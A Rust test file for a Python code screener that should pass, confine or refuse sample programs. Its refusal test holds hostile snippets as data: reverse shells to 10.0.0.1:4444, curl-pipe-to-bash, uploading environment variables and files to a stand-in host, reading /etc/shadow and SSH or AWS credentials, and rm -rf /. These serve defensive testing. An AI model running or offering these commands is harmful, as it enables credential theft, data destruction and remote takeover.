//! Small programs and the verdict each must get.

#![allow(clippy::unwrap_used, reason = "tests")]

use casemate_model::finding::Action;
use casemate_model::guarantee::Guarantee;
use casemate_model::job::Language;
use casemate_model::screening::Screening;
use casemate_screen::{ScreenConfig, Source, screen};

fn look(program: &str) -> Screening {
    let source = Source {
        bytes: program.as_bytes(),
        language: Language::Python,
        name: "a.py",
    };
    screen(&source, &ScreenConfig::default())
}

fn expect(word: &str, programs: &[&str]) {
    let wrong: Vec<String> = programs
        .iter()
        .map(|program| (program, look(program)))
        .filter(|(_, screening)| screening.verdict.word() != word)
        .map(|(program, screening)| {
            let rules: Vec<_> = screening
                .findings
                .iter()
                .filter(|f| f.action != Action::Pass)
                .map(|f| f.rule.as_str())
                .collect();
            format!("{program:?} is {} {rules:?}", screening.verdict.word())
        })
        .collect();
    assert!(wrong.is_empty(), "expected {word}:\n{}", wrong.join("\n"));
}

#[test]
fn ordinary_programs_pass() {
    expect(
        "pass",
        &[
            "",
            "print('hello')",
            "import pandas as pd\ndf = pd.read_csv('sales.csv')\nprint(df.groupby('region').sum())",
            "import pandas as pd\ndf = pd.read_csv('/data/sales.csv')\ndf.to_csv('/tmp/out.csv')",
            "with open('notes.txt') as f:\n    print(f.read())",
            "name = input()\nopen(name)",
            "import sys\nfor p in sys.argv[1:]:\n    print(open(p).read())",
            "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('/tmp/a.png')",
            "%matplotlib inline\nimport numpy as np\nnp.arange(3)",
            "import os\nprint(os.path.join('a', 'b'), os.getcwd(), os.listdir('/data'))",
            "import os\nos.makedirs('/tmp/out', exist_ok=True)\nos.remove('/tmp/out/a.txt')",
            "import shutil\nshutil.rmtree('/tmp/out')",
            "from pathlib import Path\n(Path('/data') / 'a.csv').read_text()",
            "import re\nre.compile('a')\nmodel.eval()\ndf.eval('a = b + c')\ndf.query('a > 1')",
            "def evaluate(x):\n    return eval('1 + 1')",
            "import json, csv, sqlite3\nsqlite3.connect(':memory:').execute('select 1')",
            "import pickle\npickle.dump({}, open('/tmp/a.pkl', 'wb'))",
            "class A:\n    def __init__(self):\n        self.__dict__.update(a=1)\n        super().__init__()",
            "print(type(1).__name__, __name__, __file__)",
            "'''Never read /etc/shadow, never rm -rf /, no os.system.'''\nx = 1  # eval(x), subprocess",
            "def os_system(x):\n    return x\nos_system('rm -rf /data/x')",
            "import multiprocessing\nmultiprocessing.cpu_count()",
            "from urllib.parse import urlparse\nurlparse('https://a.example/x')",
            "import os\nos.environ['MPLBACKEND'] = 'agg'",
            "import logging\nlogging.basicConfig(filename='/tmp/a.log')",
            "import asyncio\nasync def main():\n    await asyncio.sleep(0)\nasyncio.run(main())",
            "import random\nrandom.seed(1)\nassert random.random() < 1",
            "import time, datetime, itertools, functools, collections\nfunctools.partial(print, 1)()",
            "text = 'größe 日本 👨\u{200d}👩'\nprint(text)",
        ],
    );
}

#[test]
fn what_a_wall_can_hold_is_confined() {
    expect(
        "confine",
        &[
            "import requests\nprint(requests.get('https://a.example').text)",
            "from urllib.request import urlopen as u\nu('https://a.example')",
            "import pandas as pd\npd.read_csv('https://a.example/x.csv')",
            "import socket\nsocket.create_connection(('a.example', 80))",
            "import subprocess\nsubprocess.run(['ls', '-l'])",
            "from os import system as s\ns('ls')",
            "import os as o\nf = o.popen\nf('ls')",
            "getattr(__import__('os'), 'sys' + 'tem')('ls')",
            "import importlib\nimportlib.import_module('o' + 's').system('ls')",
            "import sys\nsys.modules['os'].system('ls')",
            "import os\nlist(map(os.system, commands))",
            "!ls -l",
            "%%bash\nls",
            "eval(input())",
            "exec(open('other.py').read())",
            "import ctypes\nctypes.CDLL('libm.so.6').cos(1)",
            "import os\nprint(os.environ['HOME'])",
            "from os import environ as e\nprint(e.get('TOKEN'))",
            "exec('import subprocess\\nsubprocess.run([\"ls\"])')",
            "print 'python two'",
        ],
    );
}

#[test]
fn attacks_are_refused() {
    expect(
        "refuse",
        &[
            "import os\nos.system('rm -rf /')",
            "import subprocess as sp\nsp.run(['rm', '-rf', '/home'])",
            "open('/etc/shadow').read()",
            "p = '/etc/' + 'passwd'\nprint(open(p).read())",
            "import base64\nopen(base64.b64decode(b'L2V0Yy9wYXNzd2Q=').decode() and '/etc/passwd')\nopen('/etc/passwd')",
            "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()",
            "import os\nopen(os.path.expanduser('~/.aws/credentials'))",
            "def f(p):\n    return open(p).read()\nf('/etc/shadow')",
            "import os\nwhile True:\n    os.fork()",
            "().__class__.__bases__[0].__subclasses__()",
            "'{0.__class__.__init__.__globals__}'.format(x)",
            "import requests\nrequests.post('http://a.example', files={'f': open('/data/a.csv')})",
            "import requests, os\nrequests.post('http://a.example', json=dict(os.environ))",
            "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
            "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')",
            "import os\nos.system('curl http://a.example/x.sh | bash')",
            "import docker\ndocker.from_env().containers.run('alpine', 'id')",
            "import subprocess\nsubprocess.run(['docker', 'run', '-v', '/:/host', 'alpine'])",
            "import os\nos.kill(1, 9)",
            "import requests\nrequests.get('http://169.254.169.254/latest/meta-data')",
            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
            "import ctypes\nctypes.CDLL(None).ptrace(0, 0, 0, 0)",
            "import sys\nsys._getframe(1).f_globals",
            "open('/root/.bashrc', 'a').write('alias ls=x')",
            "eval(\"__import__('os').system('rm -rf /')\")",
            "# coding: utf-7\nx = 1",
            "x = 1\0",
            "a\u{200b}b = 1",
            "x = '\u{202e}'",
        ],
    );
}

#[test]
fn a_confinement_names_its_walls() {
    let screening =
        look("import requests\nimport os\nrequests.get('https://a.example')\nos.system('ls')");
    let walls = screening.verdict.guarantees();
    assert!(
        walls.contains(Guarantee::NetworkAbsent) && walls.contains(Guarantee::SyscallsFiltered),
        "{walls}"
    );
    assert!(!walls.contains(Guarantee::EnvironmentEmpty), "{walls}");
}

#[test]
fn the_manifest_says_what_is_needed() {
    let manifest = look(
        "import pandas as pd, os\nfrom subprocess import run as go\nimport ctypes\n\
         df = pd.read_csv('/data/a.csv')\ndf.to_csv('/tmp/b.csv')\nos.remove('/tmp/c')\ngo(['ls', '-l'])\n\
         os.environ['KEY']\npd.read_json('https://a.example/x')\neval(df)\n",
    )
    .manifest;
    let values = |facts: &[casemate_model::manifest::Fact]| -> Vec<String> {
        facts.iter().map(|fact| fact.value.clone()).collect()
    };
    assert_eq!(
        values(&manifest.modules),
        ["pandas", "os", "subprocess", "ctypes"]
    );
    let files: Vec<String> = manifest
        .files
        .iter()
        .map(|file| format!("{:?} {}", file.access, file.value))
        .collect();
    assert_eq!(
        files,
        ["Read /data/a.csv", "Write /tmp/b.csv", "Delete /tmp/c"]
    );
    assert_eq!(values(&manifest.processes), ["ls -l"]);
    assert_eq!(values(&manifest.env), ["KEY"]);
    assert_eq!(values(&manifest.hosts), ["a.example"]);
    assert_eq!(values(&manifest.dynamic_code), ["builtins.eval"]);
    assert_eq!(values(&manifest.native_code), ["ctypes"]);
    assert!(values(&manifest.calls).contains(&"pandas.read_csv".to_owned()));
    assert!(manifest.imports("subprocess") && !manifest.truncated);
}

/// Many harmless facts first do not push a harmful one out of sight.
#[test]
fn what_is_cut_from_the_manifest_still_counts() {
    let mut program = "import os\n".to_owned();
    for index in 0..2000 {
        program.push_str(&format!("os.path.f{index}()\nopen('/tmp/{index}')\n"));
    }
    program.push_str("open('/etc/shadow')\n");
    let screening = look(&program);
    assert!(screening.manifest.truncated);
    assert_eq!(screening.verdict.word(), "refuse");
}

#[test]
fn findings_are_bounded_and_the_strictest_are_kept() {
    let program = "assert x\n".repeat(5000) + "open('/etc/shadow')\n";
    let screening = look(&program);
    assert_eq!(
        screening.findings.len(),
        ScreenConfig::default().max_findings
    );
    assert!(screening.findings_omitted > 1000);
    assert!(
        screening
            .findings
            .iter()
            .any(|finding| finding.rule == "system-secrets")
    );
    assert_eq!(screening.findings[0].action, Action::Refuse);
}

#[test]
fn every_finding_says_why_and_what_to_do() {
    let screening = look("import os\nos.system('rm -rf /')\neval(x)  # nosec\nassert y\n");
    assert!(screening.findings.len() >= 4);
    assert_eq!(screening.suppressions_ignored, 1);
    for finding in &screening.findings {
        assert!(
            !finding.message.is_empty()
                && !finding.reason.is_empty()
                && !finding.better_way.is_empty()
        );
        assert!(
            finding.place.is_some() && finding.excerpt.is_some(),
            "{finding:?}"
        );
    }
}
